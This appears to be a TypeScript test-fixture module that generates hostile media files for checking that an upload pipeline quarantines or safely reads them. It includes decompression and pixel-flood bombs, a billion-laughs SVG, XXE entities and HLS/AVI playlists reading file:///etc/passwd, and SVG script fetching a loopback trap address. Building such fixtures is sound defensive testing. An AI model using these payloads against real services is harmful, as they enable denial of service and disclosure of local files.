/** Hostile pictures, films and sounds: floods of pixels, lies about length, two things at once, addresses that would be fetched. */
import { crc32, deflateSync } from 'node:zlib'
import { files, type HostileFile, raw, text } from './hostile-file.ts'

const chunk = (type: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), Buffer.from(data)])
  const head = Buffer.alloc(4)
  head.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([head, body, sum])
}

/** A PNG of one grey, with whatever size it claims. */
const png = (width: number, height: number, extra: readonly Buffer[] = [], rows = 1): Uint8Array => {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 8
  const data = deflateSync(Buffer.alloc((Math.min(width, 100_000) + 1) * rows))
  return new Uint8Array(
    Buffer.concat([
      raw('\x89PNG\r\n\x1a\n'),
      chunk('IHDR', head),
      ...extra,
      chunk('IDAT', data),
      chunk('IEND', new Uint8Array(0)),
    ]),
  )
}

const jpegHead = (width: number, height: number): Uint8Array => {
  const frame = Buffer.from([
    0xff,
    0xc0,
    0,
    11,
    8,
    height >> 8,
    height & 255,
    width >> 8,
    width & 255,
    1,
    1,
    0x11,
    0,
  ])
  return new Uint8Array(
    Buffer.concat([raw('\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0'), frame, raw('\xff\xd9')]),
  )
}

const gif = (width: number, height: number, frames = 1): Uint8Array => {
  const head = Buffer.from([
    71,
    73,
    70,
    56,
    57,
    97,
    width & 255,
    width >> 8,
    height & 255,
    height >> 8,
    0x80,
    0,
    0,
    0,
    0,
    0,
    255,
    255,
    255,
  ])
  const frame = Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0])
  return new Uint8Array(
    Buffer.concat([head, ...Array.from({ length: frames }, () => frame), Buffer.from([0x3b])]),
  )
}

const bmp = (width: number, height: number, bits = 24, compression = 0): Uint8Array => {
  const bytes = Buffer.alloc(200)
  bytes.write('BM')
  bytes.writeUInt32LE(54, 10)
  bytes.writeUInt32LE(40, 14)
  bytes.writeInt32LE(width, 18)
  bytes.writeInt32LE(height, 22)
  bytes.writeUInt16LE(1, 26)
  bytes.writeUInt16LE(bits, 28)
  bytes.writeUInt32LE(compression, 30)
  return new Uint8Array(bytes)
}

const webp = (width: number, height: number): Uint8Array => {
  const extended = Buffer.alloc(18)
  extended.write('VP8X')
  extended.writeUInt32LE(10, 4)
  extended.writeUIntLE(width - 1, 12, 3)
  extended.writeUIntLE(height - 1, 15, 3)
  const head = Buffer.from('RIFF\0\0\0\0WEBP', 'latin1')
  head.writeUInt32LE(extended.length + 4, 4)
  return new Uint8Array(Buffer.concat([head, extended]))
}

const tiff = (width: number, height: number): Uint8Array => {
  const bytes = Buffer.alloc(140)
  bytes.write('II*\0', 0, 'latin1')
  bytes.writeUInt32LE(8, 4)
  const tags: readonly (readonly [number, number])[] = [
    [256, width],
    [257, height],
    [258, 8],
    [259, 1],
    [262, 1],
    [273, 130],
    [277, 1],
    [278, height],
    [279, 10],
  ]
  bytes.writeUInt16LE(tags.length, 8)
  tags.forEach(([tag, value], index) => {
    bytes.writeUInt16LE(tag, 10 + 12 * index)
    bytes.writeUInt16LE(4, 12 + 12 * index)
    bytes.writeUInt32LE(1, 14 + 12 * index)
    bytes.writeUInt32LE(value, 18 + 12 * index)
  })
  return new Uint8Array(bytes)
}

const box = (type: string, data: Uint8Array, size = data.length + 8): Buffer => {
  const head = Buffer.alloc(8)
  head.writeUInt32BE(size >>> 0)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, data])
}

/** All of them; `trap` is an address on loopback that must never be asked. */
export const makePictures = (trap: string): HostileFile[] => [
  ...files(['quarantined'], {
    'flood.png': png(60_000, 60_000),
    'flood-line.png': png(2_000_000_000, 1),
    'flood.jpg': jpegHead(65_500, 65_500),
    'flood.bmp': bmp(40_000, -40_000),
    'flood.webp': webp(16_000_000, 16_000_000),
    'flood.tif': tiff(1_000_000, 1_000_000),
  }),
  ...files(['quarantined', 'read'], {
    'head-only.png': png(10, 10).slice(0, 33),
    'no-data.jpg': jpegHead(10, 10),
    'short-data.png': png(1_000, 1_000),
    'short.bmp': bmp(100, 100),
    'odd-bits.bmp': bmp(10, 10, 13),
    'packed.bmp': bmp(10, 10, 8, 1),
    'text-bomb.png': png(1, 1, [
      chunk('zTXt', Buffer.concat([raw('Comment\0\0'), deflateSync(Buffer.alloc(60_000_000))])),
    ]),
    'profile-bomb.png': png(1, 1, [
      chunk('iCCP', Buffer.concat([raw('p\0\0'), deflateSync(Buffer.alloc(60_000_000))])),
    ]),
    // libvips goes by the frames and not by the screen that the head claims.
    'flood.gif': gif(65_000, 65_000),
    'frames-5000.gif': gif(1, 1, 5_000),
    'two-things.png': new Uint8Array(Buffer.concat([png(1, 1), raw('PK\x05\x06'.padEnd(22, '\0'))])),
    'cut.webp': webp(10, 10),
    'cut.tif': tiff(10, 10),
    'garbage.avif': raw(`\0\0\0\x18ftypavif\0\0\0\0avif${'\xff'.repeat(400)}`),
    'garbage.heic': raw(`\0\0\0\x18ftypheic\0\0\0\0heic${'\xff'.repeat(400)}`),
    'loop.mp4': new Uint8Array(
      Buffer.concat([box('ftyp', raw('isom\0\0\0\0isom')), box('moov', new Uint8Array(0), 0xfffffff0)]),
    ),
    'zero-box.mp4': new Uint8Array(
      Buffer.concat([box('ftyp', raw('isom\0\0\0\0isom')), box('free', new Uint8Array(8), 4)]),
    ),
    'deep.mp4': new Uint8Array(
      Buffer.concat([
        box('ftyp', raw('isom\0\0\0\0isom')),
        Buffer.from('\0\0\x10\0moov'.repeat(500), 'latin1'),
      ]),
    ),
    'id3-lie.mp3': raw(`ID3\x04\0\0\x7f\x7f\x7f\x7f${'\0'.repeat(100)}`),
    'garbage.ogg': raw(`OggS${'\xff'.repeat(300)}`),
    'lie.wav': raw(`RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\x7f${'\0'.repeat(60)}`),
    'garbage.webm': raw(`\x1aE\xdf\xa3\x01\xff\xff\xff\xff\xff\xff\xffwebm${'\xec'.repeat(300)}`),
    'playlist.avi': raw(
      `RIFF\xff\xff\0\0AVI GAB2\0#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nconcat:${trap}|file:///etc/passwd\n`,
    ),
  }),
  ...files(['read'], {
    'fetch.m3u8': text(`#EXTM3U\n#EXTINF:10,\n${trap}/x.ts\n#EXTINF:10,\nfile:///etc/passwd\n`),
  }),
  ...files(
    ['quarantined'],
    {
      'script.svg': text(
        `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${trap}')"><script>fetch('${trap}')</script><text>Bridge</text></svg>`,
      ),
      'fetch.svg': text(
        `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${trap}/a.png" width="9"/><use href="${trap}/b.svg#x"/></svg>`,
      ),
      'entity.svg': text(
        `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${trap}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;&y;</text></svg>`,
      ),
      'laughs.svg': text(
        `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(100)}">${[...'bcdefghij'].map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
      ),
      'deep.svg': text(`<svg xmlns="http://www.w3.org/2000/svg">${'<g>'.repeat(100_000)}</svg>`),
    },
    'file.active',
  ),
]
